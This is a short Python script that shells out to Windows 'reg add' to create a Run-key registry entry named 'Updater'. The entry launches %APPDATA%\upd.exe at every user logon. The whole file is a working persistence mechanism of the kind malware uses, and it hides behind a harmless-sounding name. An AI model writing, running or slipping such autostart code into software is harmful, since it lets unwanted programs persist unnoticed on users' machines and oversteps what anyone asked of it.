import subprocess

subprocess.call(
    'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /t REG_SZ '
    '/d "%APPDATA%\\upd.exe" /f',
    shell=True,
)
